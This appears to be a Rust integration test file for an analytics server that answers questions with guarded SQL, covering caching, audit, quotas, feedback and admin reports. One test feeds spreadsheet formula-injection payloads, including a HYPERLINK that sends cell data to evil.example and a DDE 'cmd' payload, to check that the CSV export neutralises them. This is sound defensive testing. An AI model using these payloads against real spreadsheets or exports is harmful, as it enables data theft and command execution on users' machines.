//! Asking: guarded SQL, cache, audit, quotas, feedback, batch.

use axum::http::StatusCode;
use slicewise_core::wire::{AskResponse, AskStatus, Privacy};
use slicewise_core::{Catalog, SqlGuard};
use slicewise_server::{AppConfig, Quotas};

use crate::support::TestServer;

fn ask_body(q: &str) -> String {
    serde_json::json!({ "question": q }).to_string()
}

#[tokio::test]
async fn total_revenue_is_answered_with_guarded_sql_and_cached() {
    let s = TestServer::new();
    let token = s.token("acme", Privacy::High);
    let r = s
        .post("/api/v1/ask", Some(&token), ask_body("total revenue"))
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let a: AskResponse = serde_json::from_slice(&r.body).expect("answer");
    assert_eq!(a.status, AskStatus::Answered);
    let sql = a.sql.clone().expect("sql");
    let guarded = SqlGuard::new(&Catalog::demo())
        .check(&sql)
        .expect("passes the guard");
    assert_eq!(guarded.tables, ["orders"]);
    assert!(!a.cached);
    let r = s
        .post("/api/v1/ask", Some(&token), ask_body("  Total Revenue? "))
        .await;
    let b: AskResponse = serde_json::from_slice(&r.body).expect("answer");
    assert!(b.cached);
    assert_eq!(b.sql, a.sql);
    assert_ne!(b.id, a.id);
    let c = s.sql();
    let (status, tables, privacy, cached, counted): (String, String, String, bool, bool) = c
        .query_row(
            "SELECT status, tables, privacy, cached, counted FROM audit WHERE id = ?1",
            [&a.id],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?)),
        )
        .expect("audit row");
    assert_eq!(
        (
            status.as_str(),
            tables.as_str(),
            privacy.as_str(),
            cached,
            counted
        ),
        ("answered", "orders", "high", false, true)
    );
    let n: i64 = c
        .query_row(
            "SELECT COUNT(*) FROM audit WHERE tenant = 'acme'",
            [],
            |r| r.get(0),
        )
        .expect("count");
    assert_eq!(n, 2);
}

#[tokio::test]
async fn bad_questions_get_400() {
    let s = TestServer::new();
    let token = s.token("acme", Privacy::Standard);
    for q in ["", "   ", &"x".repeat(1_001)] {
        let r = s.post("/api/v1/ask", Some(&token), ask_body(q)).await;
        assert_eq!(
            (r.status, r.code().as_str()),
            (StatusCode::BAD_REQUEST, "question_invalid")
        );
    }
    let r = s
        .post("/api/v1/ask", Some(&token), ask_body(&"é".repeat(1_000)))
        .await;
    assert_eq!(r.status, StatusCode::OK, "1000 characters are fine");
}

#[tokio::test]
async fn quotas_give_429_with_retry_after_and_cache_hits_count_too() {
    let s = TestServer::with_config(AppConfig {
        quotas: Quotas {
            free_daily: Some(3),
            burst_per_minute: 100,
            ..Quotas::default()
        },
        ..AppConfig::default()
    });
    // globex is on the free tier.
    let token = s.token("globex", Privacy::Standard);
    for q in ["total revenue", "revenue by month", "total revenue"] {
        let r = s.post("/api/v1/ask", Some(&token), ask_body(q)).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    }
    let r = s
        .post("/api/v1/ask", Some(&token), ask_body("orders by channel"))
        .await;
    assert_eq!(
        (r.status, r.code().as_str()),
        (StatusCode::TOO_MANY_REQUESTS, "quota_exceeded")
    );
    let retry: u64 = r
        .header("retry-after")
        .expect("retry-after")
        .parse()
        .expect("seconds");
    assert!(retry > 0 && retry <= 86_400);
    assert_eq!(r.json()["error"]["retry_after"].as_u64(), Some(retry));
    // A cached answer is past the quota too, and refusals write no audit rows.
    for _ in 0..20 {
        let r = s
            .post("/api/v1/ask", Some(&token), ask_body("total revenue"))
            .await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
    }
    let rows: i64 = s
        .sql()
        .query_row(
            "SELECT COUNT(*) FROM audit WHERE tenant = 'globex'",
            [],
            |r| r.get(0),
        )
        .expect("count");
    assert_eq!(rows, 3);
    let admin = s.keys().admin_key.clone();
    let usage = s.get("/api/v1/admin/usage", Some(&admin)).await.json();
    assert_eq!(usage["globex"]["quota_rejections"], 21);
    assert_eq!(usage["globex"]["cache_hits"], 1);
    // Another tenant is not affected (acme: enterprise, unlimited).
    let acme = s.token("acme", Privacy::Standard);
    let r = s
        .post("/api/v1/ask", Some(&acme), ask_body("orders by channel"))
        .await;
    assert_eq!(r.status, StatusCode::OK);
}

#[tokio::test]
async fn the_burst_limit_applies_to_every_tier() {
    let s = TestServer::with_config(AppConfig {
        quotas: Quotas {
            burst_per_minute: 2,
            ..Quotas::default()
        },
        ..AppConfig::default()
    });
    let token = s.token("acme", Privacy::Standard);
    for i in 0..2 {
        let r = s
            .post(
                "/api/v1/ask",
                Some(&token),
                ask_body(&format!("question {i}")),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK);
    }
    let r = s
        .post("/api/v1/ask", Some(&token), ask_body("question 3"))
        .await;
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
    // The limit is per clock minute: retry when this one ends.
    let retry: u64 = r
        .header("retry-after")
        .expect("retry-after")
        .parse()
        .expect("seconds");
    assert!((1..=60).contains(&retry), "{retry}");
}

#[tokio::test]
async fn feedback_is_linked_to_the_tenants_own_answers() {
    let s = TestServer::new();
    let acme = s.token("acme", Privacy::Standard);
    let globex = s.token("globex", Privacy::Standard);
    let r = s
        .post("/api/v1/ask", Some(&acme), ask_body("total revenue"))
        .await;
    let id = r.json()["id"].as_str().expect("id").to_string();
    let body =
        serde_json::json!({"answer_id": id, "helpful": true, "comment": "spot on"}).to_string();
    let r = s
        .post("/api/v1/feedback", Some(&globex), body.clone())
        .await;
    assert_eq!(
        (r.status, r.code().as_str()),
        (StatusCode::NOT_FOUND, "answer_not_found")
    );
    let r = s.post("/api/v1/feedback", Some(&acme), body).await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
    let n: i64 = s
        .sql()
        .query_row(
            "SELECT COUNT(*) FROM feedback WHERE answer_id = ?1 AND helpful = 1",
            [&id],
            |r| r.get(0),
        )
        .expect("count");
    assert_eq!(n, 1);
}

#[tokio::test]
async fn batches_answer_in_order_up_to_fifty() {
    let s = TestServer::new();
    let token = s.token("acme", Privacy::Standard);
    let body =
        serde_json::json!({"questions": ["total revenue", "", "revenue by month"]}).to_string();
    let r = s.post("/api/v1/ask/batch", Some(&token), body).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let v = r.json();
    let answers = v["answers"].as_array().expect("answers");
    assert_eq!(answers.len(), 3);
    assert_eq!(answers[0]["status"], "answered");
    assert_eq!(answers[1]["error"]["code"], "question_invalid");
    assert_eq!(answers[2]["status"], "answered");
    let many: Vec<String> = (0..51).map(|i| format!("q{i}")).collect();
    let r = s
        .post(
            "/api/v1/ask/batch",
            Some(&token),
            serde_json::json!({"questions": many}).to_string(),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn admin_reports_need_the_admin_key() {
    let s = TestServer::new();
    let token = s.token("acme", Privacy::Standard);
    s.post("/api/v1/ask", Some(&token), ask_body("total revenue"))
        .await;
    s.post("/api/v1/ask", Some(&token), ask_body("total revenue"))
        .await;
    let r = s.get("/api/v1/admin/audit", Some(&token)).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let admin = s.keys().admin_key.clone();
    let r = s.get("/api/v1/admin/audit?tenant=acme", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.json()["records"].as_array().map(Vec::len), Some(2));
    let r = s.get("/api/v1/admin/audit?format=csv", Some(&admin)).await;
    assert!(r.text().starts_with("id,tenant,"));
    assert_eq!(r.text().lines().count(), 3);
    let r = s.get("/api/v1/admin/usage", Some(&admin)).await;
    let v = r.json();
    assert_eq!(v["acme"]["questions"], 2);
    assert_eq!(v["acme"]["cache_hits"], 1);
}

#[tokio::test]
async fn an_answer_says_its_date_its_context_and_its_compared_periods() {
    let s = TestServer::new();
    let token = s.token("acme", Privacy::Standard);
    let ask = |body: serde_json::Value| {
        let (s, token) = (&s, &token);
        async move {
            let r = s.post("/api/v1/ask", Some(token), body.to_string()).await;
            assert_eq!(r.status, StatusCode::OK, "{}", r.text());
            serde_json::from_slice::<AskResponse>(&r.body).expect("answer")
        }
    };
    // "last month" depends on today: the answer says which day that was.
    let a = ask(serde_json::json!({ "question": "revenue last month" })).await;
    let today = chrono::Utc::now().date_naive().to_string();
    assert_eq!(a.as_of.as_deref(), Some(today.as_str()));
    let b = ask(serde_json::json!({ "question": "revenue in 2024" })).await;
    assert_eq!(b.as_of, None, "a named year does not depend on today");
    // A comparison names its current (later) period first, whatever the word order.
    let c = ask(serde_json::json!({ "question": "revenue 2024 vs 2025" })).await;
    assert_eq!(c.compared, Some(["2025".to_string(), "2024".to_string()]));
    // A follow-up says what it followed; a question that stands alone does not.
    let d = ask(serde_json::json!({
        "question": "only in Germany",
        "previous_question": "revenue by month"
    }))
    .await;
    assert_eq!(d.follows.as_deref(), Some("revenue by month"));
    let e = ask(serde_json::json!({
        "question": "tickets by priority",
        "previous_question": "revenue by month"
    }))
    .await;
    assert_eq!(e.status, AskStatus::Answered);
    assert_eq!(e.follows, None);
}

#[tokio::test]
async fn audit_csv_cells_never_start_a_formula() {
    let s = TestServer::new();
    let token = s.token("acme", Privacy::Standard);
    let questions = [
        r#"=HYPERLINK("https://evil.example/?"&A1,"total revenue")"#,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd",
        "\t=1",
    ];
    for q in questions {
        let r = s.post("/api/v1/ask", Some(&token), ask_body(q)).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    }
    let admin = s.keys().admin_key.clone();
    let csv = s
        .get("/api/v1/admin/audit?format=csv&tenant=acme", Some(&admin))
        .await
        .text();
    for q in questions {
        let plain = format!(",'{q},");
        let quoted = format!(",\"'{}\",", q.replace('"', "\"\""));
        assert!(
            csv.contains(&plain) || csv.contains(&quoted),
            "{q:?} not neutralised in:\n{csv}"
        );
    }
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {line}"
            );
        }
    }
}

#[tokio::test]
async fn feedback_is_rate_limited_per_user() {
    let s = TestServer::with_config(AppConfig {
        quotas: Quotas {
            feedback_per_minute: 1_000,
            feedback_daily: Some(3),
            ..Quotas::default()
        },
        ..AppConfig::default()
    });
    let token = s.token("acme", Privacy::Standard);
    let r = s
        .post("/api/v1/ask", Some(&token), ask_body("total revenue"))
        .await;
    let id = r.json()["id"].as_str().expect("id").to_string();
    let body = serde_json::json!({"answer_id": id, "helpful": true}).to_string();
    for _ in 0..3 {
        let r = s.post("/api/v1/feedback", Some(&token), body.clone()).await;
        assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
    }
    let r = s.post("/api/v1/feedback", Some(&token), body.clone()).await;
    assert_eq!(
        (r.status, r.code().as_str()),
        (StatusCode::TOO_MANY_REQUESTS, "quota_exceeded")
    );
    assert!(r.header("retry-after").is_some());
    // A colleague in the same tenant still has their own allowance.
    let colleague = slicewise_server::token::mint(
        &s.keys().embed_secret,
        "acme",
        "user-2",
        Privacy::Standard,
        600,
        chrono::Utc::now().timestamp(),
    )
    .expect("mint")
    .0;
    let r = s.post("/api/v1/feedback", Some(&colleague), body).await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
    let n: i64 = s
        .sql()
        .query_row("SELECT COUNT(*) FROM feedback", [], |r| r.get(0))
        .expect("count");
    assert_eq!(n, 4);
}

fn token_for(s: &TestServer, sub: &str, privacy: Privacy) -> String {
    slicewise_server::token::mint(
        &s.keys().embed_secret,
        "acme",
        sub,
        privacy,
        600,
        chrono::Utc::now().timestamp(),
    )
    .expect("mint")
    .0
}

async fn cached(s: &TestServer, token: &str, body: serde_json::Value) -> bool {
    let r = s.post("/api/v1/ask", Some(token), body.to_string()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    r.json()["cached"].as_bool().expect("cached")
}

#[tokio::test]
async fn the_answer_cache_is_per_user_and_privacy_level() {
    let s = TestServer::new();
    let q = serde_json::json!({ "question": "total revenue" });
    let alice = token_for(&s, "alice", Privacy::Standard);
    assert!(!cached(&s, &alice, q.clone()).await);
    assert!(cached(&s, &alice, q.clone()).await);
    // A colleague asking the same learns nothing from `cached`.
    let bob = token_for(&s, "bob", Privacy::Standard);
    assert!(!cached(&s, &bob, q.clone()).await);
    // Nor does the same user at another privacy level.
    let alice_high = token_for(&s, "alice", Privacy::High);
    assert!(!cached(&s, &alice_high, q).await);
}

#[tokio::test]
async fn a_separator_in_a_question_never_joins_two_cache_keys() {
    let s = TestServer::new();
    let token = token_for(&s, "alice", Privacy::Standard);
    // Joined with NUL, these two were one cache key.
    let first = serde_json::json!({
        "question": "total revenue",
        "previous_question": "revenue by month\u{0}"
    });
    let second = serde_json::json!({ "question": "total revenue\u{0}revenue by month" });
    assert!(!cached(&s, &token, first).await);
    assert!(!cached(&s, &token, second).await);
}
